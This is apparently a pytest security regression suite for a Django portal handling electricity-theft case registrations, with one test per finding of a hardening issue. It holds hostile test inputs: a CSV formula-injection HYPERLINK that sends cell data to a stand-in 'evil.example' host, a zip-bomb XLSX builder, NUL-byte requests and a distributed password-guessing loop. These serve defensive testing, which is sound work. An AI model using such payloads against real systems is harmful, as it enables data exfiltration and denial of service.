"""Issue 17, "Safe to put on the internet": one test per row of its table.

Each ``test_<row>`` is named after the row of the issue's table it closes,
and fails on the code the attacker tried. Settings that are read once per
process (DEBUG, the backends) are tried in a subprocess, exactly as an
operator would start the portal (``tests/security/test_deploy.py``).
"""

from __future__ import annotations

import csv
import datetime as dt
import importlib
import io
import json
import re
import time
import uuid
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.cache import cache
from django.core.files.base import ContentFile
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import clear_url_caches, reverse

from messaging.models import OtpChallenge, SmsMessage
from ots_scheme.models import Registration, RegistrationStatus
from payments.models import PaymentEvent, PaymentPurpose, PaymentStatus
from tests.consumers.conftest import PDF, otp_from_outbox
from tests.factories import ConsumerFactory, RegistrationFactory, TheftCaseFactory
from tests.security.test_deploy import STAGING_ENV, _run
from tests.theft_cases.importfiles import csv_bytes, good_row, xlsx_bytes
from theft_cases.models import CaseImport, ImportStatus, TheftCase

ROOT = Path(settings.BASE_DIR)
DEAD_REDIS = "redis://127.0.0.1:1/0"
DETAILS = {
    "applicant_name": "राम कुमार", "father_or_husband_name": "श्याम लाल",
    "address": "12, अमीनाबाद, लखनऊ", "email": "", "id_proof_type": "aadhaar",
    "id_proof_last4": "1234",
}


@pytest.fixture(autouse=True)
def _fresh_cache(settings):
    """Per-IP counters never leak between tests (nor into a shared Redis)."""
    settings.CACHES = {
        "default": {**settings.CACHES["default"], "KEY_PREFIX": f"t-{uuid.uuid4().hex}"}
    }


@pytest.fixture
def demo(schemes):
    return schemes["DEMO-OTS-THEFT"]


def production_env(**changes) -> dict:
    """The staging env of test_deploy without ALLOW_SANDBOX: a production site."""
    env = {k: v for k, v in STAGING_ENV.items() if k != "ALLOW_SANDBOX"}
    env.update(changes)
    return {k: v for k, v in env.items() if v is not None}


def browser(ip: str) -> Client:
    """A browser whose requests come from ``ip`` (nginx's X-Real-IP is not set)."""
    return Client(REMOTE_ADDR=ip)


def register_through_wizard(client, case, *, mobile: str, own_mobile: bool = False):
    """Walk a browser from the lookup to a registration; return the last response."""
    client.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    if own_mobile:
        client.post(reverse("consumers:otp_mobile"), {"mobile": mobile})
    client.post(reverse("consumers:otp_verify"), {"code": otp_from_outbox(mobile)})
    client.post(reverse("consumers:register", args=["case"]))
    client.post(reverse("consumers:register", args=["details"]),
                {**DETAILS, "id_document": SimpleUploadedFile("id.pdf", PDF)})
    client.post(reverse("consumers:register", args=["declaration"]), {"accept": "on"})
    return client.post(reverse("consumers:register", args=["confirm"]))


def pay_fee(registration) -> None:
    """The registration fee arrives through the sandbox bank's signed callback."""
    from payments import services
    from payments.gateways.sandbox import bank_decide, deliver_callback

    payment = services.payment_start(registration=registration,
                                     purpose=PaymentPurpose.REGISTRATION_FEE)
    bank_decide(order_id=payment.order_id, outcome="success", amount=payment.amount)
    assert deliver_callback(order_id=payment.order_id) == 200


# --- The sandbox "bank" works in production ----------------------------------------


def test_sandbox_bank_works_in_production():
    """DEBUG off, no ALLOW_SANDBOX: check --deploy errors naming the settings."""
    result = _run("manage.py", "check", "--deploy", env=production_env())
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "redportal.E001" in output and "PAYMENT_GATEWAY is the sandbox bank" in output
    assert "redportal.E002" in output and "SMS_BACKEND is a development backend" in output
    # ALLOW_SANDBOX=1 names a staging site: the same backends pass (test_deploy).
    staging = _run("manage.py", "check", "--deploy", env={**production_env(),
                                                        "ALLOW_SANDBOX": "1"})
    assert staging.returncode == 0, staging.stdout + staging.stderr


def test_sandbox_bank_works_in_production__wsgi_refuses_to_start():
    result = _run("-c", "import redportal.wsgi", env=production_env())
    assert result.returncode != 0
    assert "ImproperlyConfigured" in result.stderr
    assert "PAYMENT_GATEWAY" in result.stderr and "SMS_BACKEND" in result.stderr


def test_sandbox_bank_works_in_production__celery_refuses_to_start():
    """The worker stops at start-up: it would otherwise wait for a dead broker."""
    env = production_env(CELERY_BROKER_URL=DEAD_REDIS)
    result = _run("-m", "celery", "-A", "redportal", "worker", "-P", "solo",
                  "--without-gossip", "--without-mingle", "--without-heartbeat",
                  env=env)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    assert "PAYMENT_GATEWAY" in output and "refuses to start" in output


@pytest.mark.django_db
def test_sandbox_bank_works_in_production__its_pages_are_404(client, settings,
                                                              make_registration):
    settings.DEBUG = False
    settings.ALLOW_SANDBOX = False
    from payments import services

    registration = make_registration()
    payment = services.payment_start(registration=registration,
                                     purpose=PaymentPurpose.REGISTRATION_FEE)
    bank = reverse("payments:sandbox_bank", args=[payment.order_id])
    assert client.post(bank, {"outcome": "success"}).status_code == 404
    assert client.get(bank).status_code == 404
    status = reverse("payments:sandbox_status", args=[payment.order_id])
    assert client.get(status).status_code == 404
    payment.refresh_from_db()
    assert payment.status != PaymentStatus.SUCCESS
    # A staging site: the bank answers, and every page says no real money moves.
    settings.ALLOW_SANDBOX = True
    assert client.get(bank).status_code == 200
    page = client.get("/").content.decode()
    assert "परीक्षण साइट — कोई असली पैसा नहीं" in page and "Test site — no real money" in page


def _env_example() -> dict:
    values = {}
    for line in (ROOT / "deploy/env.example").read_text(encoding="utf-8").splitlines():
        line = line.strip()
        if line and not line.startswith("#") and "=" in line:
            name, value = line.split("=", 1)
            values[name] = value
    return values


def test_sandbox_bank_works_in_production__env_example_names_no_sandbox():
    values = _env_example()
    assert "sandbox" not in values["PAYMENT_GATEWAY"].lower()
    assert values["SMS_BACKEND"] not in ("messaging.backends.OutboxBackend",
                                         "messaging.backends.ConsoleBackend")
    assert "ALLOW_SANDBOX" not in values


# --- Default callback secret accepted ----------------------------------------------


def test_default_callback_secret_accepted():
    """A default or example secret errors by name, ALLOW_SANDBOX or not."""
    for secret in (None, "change-me", "sandbox-secret-change-me"):
        env = {**STAGING_ENV}
        env.pop("PAYMENT_GATEWAY_SECRET")
        if secret is not None:
            env["PAYMENT_GATEWAY_SECRET"] = secret
        result = _run("manage.py", "check", "--deploy", env=env)
        output = result.stdout + result.stderr
        assert result.returncode != 0, secret
        assert "PAYMENT_GATEWAY_SECRET is a default or example value" in output, secret
    env = {k: v for k, v in STAGING_ENV.items() if k != "DJANGO_SECRET_KEY"}
    result = _run("manage.py", "check", "--deploy", env=env)
    assert "DJANGO_SECRET_KEY is a default or example value" in result.stdout + result.stderr


def test_default_callback_secret_accepted__env_example_as_shipped_refused():
    """An env file copied without editing cannot start: every placeholder named."""
    values = {**_env_example(), "DJANGO_SETTINGS_MODULE": "redportal.settings"}
    values.pop("STATICFILES_BACKEND")  # no collectstatic in the test tree
    result = _run("manage.py", "check", "--deploy", env=values)
    output = result.stdout + result.stderr
    assert result.returncode != 0
    for name in ("DJANGO_SECRET_KEY", "PAYMENT_GATEWAY_SECRET", "DATABASE_URL (password)",
                 "RAZORPAY_KEY_SECRET", "RAZORPAY_WEBHOOK_SECRET", "SMS_PROVIDER_AUTH_KEY"):
        assert name in output, name


# --- Full personal data of the accused for cases with no mobile -----------------------


@pytest.mark.django_db
def test_full_personal_data_of_the_accused_for_cases_with_no_mobile(client, users, demo):
    case = TheftCaseFactory(consumer=ConsumerFactory(
        name="Ramesh Chandra Verma", father_or_husband_name="Suresh Prasad Verma",
        address="House 42, Hidden Lane, Aminabad", mobile="", account_number="1234509876"))
    client.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    client.post(reverse("consumers:otp_mobile"), {"mobile": "7000012345"})
    client.post(reverse("consumers:otp_verify"), {"code": otp_from_outbox("7000012345")})
    details = client.get(reverse("consumers:register", args=["details"])).content.decode()
    for secret in ("Ramesh", "Suresh", "Hidden Lane", "1234509876"):
        assert secret not in details, secret
    assert "R. C. V." in details and "9876" in details  # masked: initials, last 4

    register_through_wizard(client, case, mobile="7000012345", own_mobile=True)
    registration = Registration.objects.get(case=case)
    assert registration.identity_check_required
    page = client.get(reverse("consumers:registration",
                              args=[registration.registration_number]))
    text = page.content.decode()
    assert 'data-masked="true"' in text and "Hidden Lane" not in text and "Ramesh" not in text

    # Staff verify who the person is: the record is theirs to see in full.
    from ots_scheme.lifecycle import registration_verify as verify_registration

    pay_fee(registration)
    verify_registration(registration=Registration.objects.get(pk=registration.pk),
                        officer=users["je_aminabad"])
    text = client.get(reverse("consumers:registration",
                              args=[registration.registration_number])).content.decode()
    assert 'data-masked="false"' in text
    assert "Ramesh Chandra Verma" in text and "Hidden Lane" in text


# --- Squatting on no-mobile cases -----------------------------------------------------


@pytest.mark.django_db
def test_squatting_on_no_mobile_cases(org_tree, users, demo):
    case = TheftCaseFactory(consumer=ConsumerFactory(mobile=""))
    squatter = browser("203.0.113.66")
    squatter.cookies["django_language"] = "en"
    register_through_wizard(squatter, case, mobile="7000099999", own_mobile=True)
    squat = Registration.objects.get(case=case)
    assert squat.identity_check_required and squat.status == RegistrationStatus.SUBMITTED
    pay_fee(squat)  # even with the fee paid, unverified does not block the owner

    # The owner brings proof to the office; the JE records their mobile on the case.
    owner_mobile = "9415012345"
    consumer = case.consumer
    consumer.mobile = owner_mobile
    consumer.save()
    owner = browser("198.51.100.7")
    owner.cookies["django_language"] = "en"
    lookup = owner.get(reverse("consumers:lookup"), {"case_number": case.case_number})
    assert 'data-code="already_registered"' not in lookup.content.decode()
    assert reverse("consumers:otp_start") in lookup.content.decode()
    register_through_wizard(owner, case, mobile=owner_mobile)

    squat.refresh_from_db()
    assert squat.status == RegistrationStatus.REJECTED
    assert "owner verified the mobile on record" in squat.rejection_reason
    mine = Registration.objects.get(case=case, status=RegistrationStatus.SUBMITTED)
    assert mine.mobile == owner_mobile and not mine.identity_check_required
    assert SmsMessage.objects.filter(mobile="7000099999", template="ots_rejected").exists()
    # The squatter's fee is not lost: staff see it under "paid, needs attention".
    from ots_scheme.registrations import needing_attention

    assert list(needing_attention(Registration.objects.all())) == [squat]


@pytest.mark.django_db
def test_squatting_on_no_mobile_cases__verified_identity_is_not_displaced(org_tree, users,
                                                                         demo):
    """Once staff have checked who registered, that registration stands."""
    from ots_scheme.lifecycle import registration_verify as verify_registration

    case = TheftCaseFactory(consumer=ConsumerFactory(mobile=""))
    register_through_wizard(browser("203.0.113.67"), case, mobile="7000088888",
                            own_mobile=True)
    first = Registration.objects.get(case=case)
    pay_fee(first)
    verify_registration(registration=Registration.objects.get(pk=first.pk),
                        officer=users["je_aminabad"])
    case.consumer.mobile = "9415054321"
    case.consumer.save()
    owner = browser("198.51.100.8")
    owner.cookies["django_language"] = "en"
    lookup = owner.get(reverse("consumers:lookup"), {"case_number": case.case_number})
    assert 'data-code="already_registered"' in lookup.content.decode()
    owner.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    assert not OtpChallenge.objects.filter(mobile="9415054321").exists()
    assert Registration.objects.filter(case=case).count() == 1
    first.refresh_from_db()
    assert first.status == RegistrationStatus.VERIFIED


# --- Anyone can block a person's OTP for an hour ---------------------------------------


@pytest.mark.django_db
def test_anyone_can_block_a_persons_otp_for_an_hour(org_tree, demo):
    case = TheftCaseFactory(consumer=ConsumerFactory(mobile="9415000001"))
    stranger = browser("203.0.113.50")
    for _ in range(4):
        stranger.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    assert OtpChallenge.objects.filter(mobile="9415000001").count() == 3
    # The person's own sends are untouched by the stranger's.
    owner = browser("198.51.100.20")
    owner.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    assert OtpChallenge.objects.filter(mobile="9415000001",
                                       client_ip="198.51.100.20").count() == 1


@pytest.mark.django_db
def test_anyone_can_block_a_persons_otp_for_an_hour__per_mobile_cap_too(db):
    """Many addresses together are still held to 10 sends an hour per mobile."""
    from messaging import otp

    for n in range(otp.MAX_SENDS_PER_MOBILE_PER_HOUR):
        otp.otp_send(mobile="9415000002", purpose="register", client_ip=f"203.0.113.{n}")
    with pytest.raises(otp.OtpError) as refused:
        otp.otp_send(mobile="9415000002", purpose="register", client_ip="198.51.100.1")
    assert refused.value.code == "too_many_sends"


@pytest.mark.django_db
def test_anyone_can_block_a_persons_otp_for_an_hour__status_by_sequential_numbers(org_tree,
                                                                                  demo):
    """/ots/status/ sends nothing for a registration number alone."""
    registrations = [RegistrationFactory(registration_number=f"DEMO-AMI1-{n:06d}",
                                         scheme=demo) for n in range(1, 6)]
    stranger = browser("203.0.113.51")
    for registration in registrations:
        for data in ({"registration_number": registration.registration_number},
                     {"registration_number": registration.registration_number,
                      "mobile": "9000000000"}):
            page = stranger.post(reverse("consumers:status"), data)
            assert page.status_code == 200
            assert registration.mobile[-4:] not in page.content.decode()
    assert not OtpChallenge.objects.exists() and not SmsMessage.objects.exists()
    # The person, with the mobile they registered with, gets their OTP.
    mine = registrations[0]
    response = browser("198.51.100.21").post(reverse("consumers:status"), {
        "registration_number": mine.registration_number, "mobile": mine.mobile})
    assert response.status_code == 302
    assert OtpChallenge.objects.filter(mobile=mine.mobile).count() == 1


# --- Import can tie up a web worker ----------------------------------------------------


def _no_parsing(monkeypatch):
    """Make any parse of an upload fail loudly while the web request runs."""

    def refuse(*args, **kwargs):
        raise AssertionError("an upload was parsed in the web request")

    from theft_cases import import_files

    monkeypatch.setattr(import_files, "open_sheet", refuse)
    monkeypatch.setattr(import_files, "load_workbook", refuse)


@pytest.mark.django_db
def test_import_can_tie_up_a_web_worker(as_user, monkeypatch,
                                        django_capture_on_commit_callbacks):
    """A CSV with 10⁶ header columns: stored by the web, refused by the worker."""
    client = as_user("je_aminabad")
    client.cookies["django_language"] = "en"
    header = ",".join(["case_number"] + ["x"] * 1_000_000).encode()
    monkeypatch.setattr(settings, "IMPORT_MAX_UPLOAD_BYTES", 50 * 1024 * 1024)
    with monkeypatch.context() as patched:
        _no_parsing(patched)
        started = time.monotonic()
        response = client.post("/staff/imports/", {
            "file": SimpleUploadedFile("wide.csv", header + b"\n1,2\n")})
        assert time.monotonic() - started < 5
    record = CaseImport.objects.get()
    assert response.status_code == 302
    assert record.status == ImportStatus.UPLOADED  # the worker has not run yet
    from theft_cases.tasks import validate_case_import

    started = time.monotonic()
    validate_case_import(record.pk, "en")
    record.refresh_from_db()
    assert time.monotonic() - started < 10
    assert record.status == ImportStatus.FAILED
    assert "more than 50 columns" in record.message


def _wide_xlsx(unpacked_bytes: int) -> bytes:
    """An XLSX whose shared strings unpack to ``unpacked_bytes`` (a small download)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        chunk = b"<si><t>a</t></si>" * 65536
        with archive.open("xl/sharedStrings.xml", "w") as part:
            written = 0
            while written < unpacked_bytes:
                part.write(chunk)
                written += len(chunk)
    return out.getvalue()


@pytest.mark.django_db
def test_import_can_tie_up_a_web_worker__xlsx_bomb_refused_unparsed(as_user, monkeypatch):
    client = as_user("je_aminabad")
    client.cookies["django_language"] = "en"
    bomb = _wide_xlsx(101 * 1024 * 1024)
    assert len(bomb) < 1024 * 1024
    _no_parsing(monkeypatch)
    response = client.post("/staff/imports/", {"file": SimpleUploadedFile("b.xlsx", bomb)})
    assert response.status_code == 200
    assert "too large once unpacked" in response.content.decode()
    assert not CaseImport.objects.exists()


def test_import_can_tie_up_a_web_worker__header_dedup_is_linear():
    from theft_cases.import_files import _without_repeats

    names = [f"c{n % 1000}" for n in range(200_000)]
    started = time.monotonic()
    kept = _without_repeats(names)
    assert time.monotonic() - started < 1
    assert kept[:1000] == names[:1000] and set(kept[1000:]) == {""}


# --- Import poison rows ----------------------------------------------------------------


@pytest.fixture
def upload(django_capture_on_commit_callbacks):
    def post(client, data: bytes, name="list.csv"):
        with django_capture_on_commit_callbacks(execute=True):
            return client.post("/staff/imports/", {"file": SimpleUploadedFile(name, data)})

    return post


@pytest.mark.django_db
def test_import_poison_rows(as_user, upload):
    client = as_user("je_aminabad")
    client.cookies["django_language"] = "en"
    # A 200 KB field: the import fails with a clear message, never "validating".
    upload(client, csv_bytes([good_row(1), good_row(2, address="x" * 200_000)]))
    record = CaseImport.objects.get()
    assert record.status == ImportStatus.FAILED
    assert "longer than 4000 characters" in record.message or \
        "longer than 4,000 characters" in record.message
    assert "Line 3" in record.message
    # 1e30 as text and as a spreadsheet number: a rejected row, the rest previewed.
    for data, name in ((csv_bytes([good_row(3), good_row(4, assessment_amount="1e30")]),
                        "list.csv"),
                       (xlsx_bytes([good_row(5), good_row(6, assessment_amount=1e30,
                                                          load_kw=1e30)]), "list.xlsx")):
        upload(client, data, name=name)
        record = CaseImport.objects.order_by("-pk").first()
        assert record.status == ImportStatus.PREVIEWED, record.message
        assert (record.created_count, record.rejected_count) == (1, 1)
        assert record.rejected_rows[0]["columns"][0] == "load_kw" or \
            "assessment_amount" in record.rejected_rows[0]["columns"]


@pytest.mark.django_db
def test_import_poison_rows__any_unexpected_error_fails_the_import(as_user, upload,
                                                                  monkeypatch):
    from theft_cases import importing

    def crash(**kwargs):
        raise ArithmeticError("a rule nobody foresaw")

    monkeypatch.setattr(importing, "run_import", crash)
    client = as_user("je_aminabad")
    client.cookies["django_language"] = "en"
    upload(client, csv_bytes([good_row(1)]))
    record = CaseImport.objects.get()
    assert record.status == ImportStatus.FAILED
    assert "unexpected error (ArithmeticError)" in record.message


@pytest.mark.django_db
def test_import_poison_rows__too_many_rows_refused(monkeypatch, users):
    from theft_cases import import_files

    monkeypatch.setattr(import_files, "MAX_ROWS", 3)
    with pytest.raises(import_files.ImportFileError) as refused:
        import_files.count_rows(io.BytesIO(csv_bytes([good_row(n) for n in range(4)])))
    assert refused.value.code == "too_many_rows"


# --- Formula in the import error report -------------------------------------------------


@pytest.mark.django_db
def test_formula_in_the_import_error_report(as_user, upload):
    client = as_user("je_aminabad")
    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
    columns = (*good_row(1).keys(), evil)
    data = csv_bytes([good_row(1, mobile="123", **{evil: "=1+1"})], columns=columns)
    upload(client, data)
    record = CaseImport.objects.get()
    assert record.rejected_count == 1
    body = b"".join(client.get(f"/staff/imports/{record.pk}/report/").streaming_content)
    rows = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")], cells
    assert "'=hyperlink(" in rows[0][-1]


WRITERS = re.compile(r"\bcsv\.(writer|DictWriter)\(|\bWorkbook\(")


def test_formula_in_the_import_error_report__one_neutralising_writer():
    """Every CSV/XLSX the portal writes goes through common/exports.py."""
    found = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in (".venv", "node_modules", "tests", "bench") or \
                "migrations" in relative.parts or str(relative) == "common/exports.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
            if WRITERS.search(line):
                found.append(f"{relative}:{number}: {line.strip()}")
    assert found == []


# --- Case numbers differ only by case ---------------------------------------------------


@pytest.mark.django_db
def test_case_numbers_differ_only_by_case(as_user, users, org_tree, upload):
    from django.db import IntegrityError, transaction

    TheftCaseFactory(case_number="LKO/AMI/2023/00084")
    with pytest.raises(IntegrityError), transaction.atomic():
        TheftCaseFactory(case_number="lko/ami/2023/00084")
    # The import of the same unit and another unit's both refuse the clash.
    client = as_user("je_aminabad")
    client.cookies["django_language"] = "en"
    upload(client, csv_bytes([good_row(1, case_number="lko/ami/2023/00084"),
                              good_row(2, case_number="LKO/NEW/1"),
                              good_row(3, case_number="lko/new/1")]))
    record = CaseImport.objects.get()
    codes = {entry["line"]: entry["codes"] for entry in record.rejected_rows}
    assert codes == {2: ["case_number_other_capitals"], 4: ["duplicate_in_file"]}
    other = Client()
    other.force_login(users["je_chowk"])
    with_chowk = csv_bytes([good_row(1, case_number="lko/ami/2023/00084",
                                     sub_division_code="victoria")])
    upload(other, with_chowk)
    assert CaseImport.objects.order_by("-pk").first().rejected_count == 1
    # The single-entry form too.
    page = client.post("/staff/cases/new/", {**good_row(9, case_number="lko/ami/2023/00084"),
                                             "sub_division": org_tree["aminabad-1"].pk})
    assert "already on the portal" in page.content.decode()
    # The public lookup lists the one case.
    found = Client().get(reverse("consumers:lookup"),
                         {"case_number": "Lko/Ami/2023/00084"}).content.decode()
    assert found.count("LKO/AMI/2023/00084") >= 1
    assert TheftCase.objects.filter(case_number__iexact="lko/ami/2023/00084").count() == 1


@pytest.mark.django_db(transaction=True)
def test_case_numbers_differ_only_by_case__migration_lists_clashes(org_tree):
    from django.core.management import call_command
    from django.core.management.base import CommandError

    call_command("migrate", "theft_cases", "0004", verbosity=0)
    try:
        first = TheftCaseFactory(case_number="LKO/AMI/2023/00084")
        clash = TheftCaseFactory(case_number="lko/ami/2023/00084")
        with pytest.raises(CommandError) as refused:
            call_command("migrate", "theft_cases", "0005", verbosity=0)
        text = str(refused.value)
        assert "'LKO/AMI/2023/00084'" in text and "'lko/ami/2023/00084'" in text
        assert f"id {first.pk}" in text and f"id {clash.pk}" in text
        clash.delete()
    finally:
        call_command("migrate", "theft_cases", verbosity=0)
    from django.db import IntegrityError

    with pytest.raises(IntegrityError):
        TheftCaseFactory(case_number="lko/ami/2023/00084")


# --- Order id reveals payment details ---------------------------------------------------


@pytest.mark.django_db
def test_order_id_reveals_payment_details(client, consumer_client, make_registration):
    from payments import services
    from payments.gateways.sandbox import bank_decide, deliver_callback

    registration = make_registration()
    payment = services.payment_start(registration=registration,
                                     purpose=PaymentPurpose.REGISTRATION_FEE)
    bank_decide(order_id=payment.order_id, outcome="success", amount=payment.amount)
    deliver_callback(order_id=payment.order_id)
    payment.refresh_from_db()
    secrets_shown = (registration.registration_number, "12,346", payment.gateway_reference)

    stranger = Client()
    page = stranger.get(reverse("payments:return", args=[payment.order_id]))
    text = page.content.decode()
    assert 'data-payment-status="success"' in text
    for secret in secrets_shown:
        assert secret not in text, secret
    reply = stranger.get(reverse("payments:sandbox_status", args=[payment.order_id]))
    assert set(reply.json()) == {"order_id", "status"}
    assert reply.json()["status"] == "success"

    owner = consumer_client(registration.registration_number)
    text = owner.get(reverse("payments:return", args=[payment.order_id])).content.decode()
    for secret in secrets_shown:
        assert secret in text, secret


# --- 500s -----------------------------------------------------------------------------


@pytest.mark.django_db
def test_500s(client, users, schemes, as_user):
    from axes.models import AccessAttempt

    client.raise_request_exception = False
    for method, url, data in [
        ("get", "/progress/?scheme=%00", None),
        ("post", "/ots/otp/start/", {"case_number": "LKO\x00"}),
        ("get", "/payments/return/%00/", None),
        ("get", "/ots/lookup/?case_number=%00", None),
    ]:
        response = getattr(client, method)(url, data) if data else getattr(client, method)(url)
        assert response.status_code == 400, (url, response.status_code)
    nul_cookie = Client(raise_request_exception=False)
    nul_cookie.cookies[settings.SESSION_COOKIE_NAME] = "abcdefgh\x00ijkl"
    assert nul_cookie.get("/ots/lookup/").status_code == 400
    response = client.post("/accounts/login/", {"username": "a" * 10_000, "password": "x"})
    assert response.status_code == 200
    assert not AccessAttempt.objects.filter(username__startswith="aaaa").exists()
    staff = as_user("je_aminabad")
    staff.raise_request_exception = False
    assert staff.get("/staff/cases/", {"page": str(10**24)}).status_code == 200


@pytest.fixture
def redis_down(settings):
    """Redis gone, as the portal is configured for it (cache and broker)."""
    from redportal.cache import redis_cache

    # The settings fixture's setting_changed signal makes Django drop its
    # cache connections, so the next cache call goes to the dead Redis.
    settings.CACHES = {"default": redis_cache(DEAD_REDIS)}
    settings.CELERY_BROKER_URL = DEAD_REDIS
    return settings


@pytest.mark.django_db
def test_500s__with_redis_down(client, users, schemes, redis_down):
    client.raise_request_exception = False
    assert client.get("/progress/").status_code == 200
    client.force_login(users["je_aminabad"])
    record = CaseImport.objects.create(file=ContentFile(b"case_number\n", name="x.csv"),
                                       original_name="x.csv",
                                       uploaded_by=users["je_aminabad"])
    assert client.get("/staff/imports/").status_code == 200
    assert client.get(f"/staff/imports/{record.pk}/").status_code == 200
    assert client.get(f"/staff/imports/{record.pk}/progress/").status_code == 200
    client.cookies["django_language"] = "en"
    response = client.post("/staff/imports/", {
        "file": SimpleUploadedFile("list.csv", csv_bytes([good_row(1)]))})
    assert response.status_code == 200
    assert "temporarily unavailable" in response.content.decode()


# --- Ledger spam ------------------------------------------------------------------------


@pytest.mark.django_db
def test_ledger_spam(client, make_registration):
    from payments import services
    from payments.models import RefusedCallbackTally

    payment = services.payment_start(registration=make_registration(),
                                     purpose=PaymentPurpose.REGISTRATION_FEE)
    events = PaymentEvent.objects.count()
    body = json.dumps({"order_id": payment.order_id, "status": "success",
                       "amount": "12346.00"}).encode()
    for _ in range(50):
        response = client.post(reverse("payments:callback"), body,
                               content_type="application/json")
        assert response.status_code == 400
    assert PaymentEvent.objects.count() == events
    tally = RefusedCallbackTally.objects.get()
    assert (tally.reason, tally.count) == ("bad signature", 50)
    # A NUL or garbage body is counted too, never a 500.
    client.raise_request_exception = False
    for junk in (b'{"order_id": "\\u0000"}', b"\xff\xfe", b"[]"):
        response = client.post(reverse("payments:callback"), junk,
                               content_type="application/json")
        assert response.status_code == 400
    assert RefusedCallbackTally.objects.count() == 1


# --- Uploaded files public under `make run` ---------------------------------------------


@pytest.mark.django_db
def test_uploaded_files_public_under_make_run(client, settings, users):
    from redportal import urls

    name = default_storage.save("id-documents/2026/01/id.pdf", ContentFile(PDF))
    report = default_storage.save("imports/reports/2026/01/errors-1.csv",
                                  ContentFile(b"line\n"))
    settings.DEBUG = True  # as under `make run`
    importlib.reload(urls)
    clear_url_caches()
    try:
        media = "/" + settings.MEDIA_URL.strip("/") + "/"
        for stored in (name, report):
            assert client.get(media + stored).status_code == 404
        client.force_login(users["director"])
        assert client.get(media + name).status_code == 404
    finally:
        settings.DEBUG = False
        importlib.reload(urls)
        clear_url_caches()


# --- Login guesses spread over addresses ------------------------------------------------


@pytest.mark.django_db
def test_login_guesses_spread_over_addresses(users):
    def attempt(ip, password):
        return Client(REMOTE_ADDR=ip).post("/accounts/login/", {
            "username": "director", "password": password})

    for n in range(12):
        attempt(f"203.0.113.{10 + n % 3}", "guess-{n}")
    # Locked for every address: even the right password from a new one.
    response = attempt("198.51.100.99", settings.DEMO_PASSWORD)
    assert response.status_code in (403, 429)
    # Another account is not held back.
    other = Client(REMOTE_ADDR="198.51.100.99").post("/accounts/login/", {
        "username": "je_chowk", "password": settings.DEMO_PASSWORD})
    assert other.status_code == 302


@pytest.mark.django_db
def test_login_guesses_spread_over_addresses__per_address_limit_stays(users):
    def attempt(ip, password, username="je_aminabad"):
        return Client(REMOTE_ADDR=ip).post("/accounts/login/", {
            "username": username, "password": password})

    for _ in range(5):
        attempt("203.0.113.30", "wrong")
    assert attempt("203.0.113.30", settings.DEMO_PASSWORD).status_code in (403, 429)
    # Five failures from one address do not reach the account-wide cap.
    assert attempt("198.51.100.30", settings.DEMO_PASSWORD).status_code == 302


# --- Shared computers -------------------------------------------------------------------


@pytest.mark.django_db
def test_shared_computers(client, users, demo):
    from django.contrib.sessions.models import Session
    from django.utils import timezone

    case = TheftCaseFactory()
    client.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    response = client.post(reverse("consumers:otp_verify"),
                           {"code": otp_from_outbox(case.consumer.mobile)})
    assert response.status_code == 302
    key = client.cookies[settings.SESSION_COOKIE_NAME]
    assert int(key["max-age"]) == 30 * 60
    session = Session.objects.get(session_key=key.value)
    left = session.expire_date - timezone.now()
    assert dt.timedelta(minutes=29) < left <= dt.timedelta(minutes=30)
    page = client.get(reverse("consumers:register", args=["case"]))
    assert page.status_code == 200 and 'id="finish-button"' in page.content.decode()

    # 30 minutes without a request: the journey is gone.
    Session.objects.filter(pk=session.pk).update(
        expire_date=timezone.now() - dt.timedelta(seconds=1))
    # The session's copy in the cache lives at most as long as the session.
    from redportal.sessions import SessionStore

    cache.delete(SessionStore(session_key=session.pk).cache_key)
    assert client.get(reverse("consumers:register", args=["case"])).status_code == 302

    # "Finish" ends it at once.
    other = Client()
    other.post(reverse("consumers:otp_start"), {"case_number": case.case_number})
    assert other.session.get("ots_flow")
    response = other.post(reverse("consumers:finish"))
    assert response.status_code == 302
    assert not other.session.get("ots_flow")
    assert not Session.objects.filter(
        session_key=other.cookies[settings.SESSION_COOKIE_NAME].value).exists()


@pytest.mark.django_db
def test_shared_computers__staff_sessions_keep_their_lifetime(users):
    from django.contrib.sessions.models import Session
    from django.utils import timezone

    staff = Client()
    staff.post("/accounts/login/", {"username": "je_aminabad",
                                    "password": settings.DEMO_PASSWORD})
    staff.get("/staff/")
    session = Session.objects.get(session_key=staff.cookies[settings.SESSION_COOKIE_NAME].value)
    assert session.expire_date - timezone.now() > dt.timedelta(days=1)
    assert 'id="finish-button"' not in staff.get("/staff/").content.decode()


# --- Secure by default ------------------------------------------------------------------


PRINT_SECURE = """
import django, json
django.setup()
from django.conf import settings as s
print(json.dumps([s.SECURE_SSL_REDIRECT, s.SESSION_COOKIE_SECURE, s.CSRF_COOKIE_SECURE,
                  s.SECURE_HSTS_SECONDS]))
"""


def test_secure_by_default():
    """DEBUG off and nothing else set: redirect, secure cookies and HSTS on."""
    result = _run("-c", PRINT_SECURE)
    assert result.returncode == 0, result.stderr
    redirect, session_secure, csrf_secure, hsts = json.loads(result.stdout.splitlines()[-1])
    assert redirect and session_secure and csrf_secure and hsts >= 31536000
    result = _run("manage.py", "check", "--deploy", "--fail-level", "WARNING")
    assert result.returncode == 0, result.stdout + result.stderr
    # Turned off on purpose, it is off (and check --deploy says so).
    off = _run("-c", PRINT_SECURE, env={**STAGING_ENV, "DJANGO_SECURE_SSL_REDIRECT": "0"})
    assert json.loads(off.stdout.splitlines()[-1])[0] is False


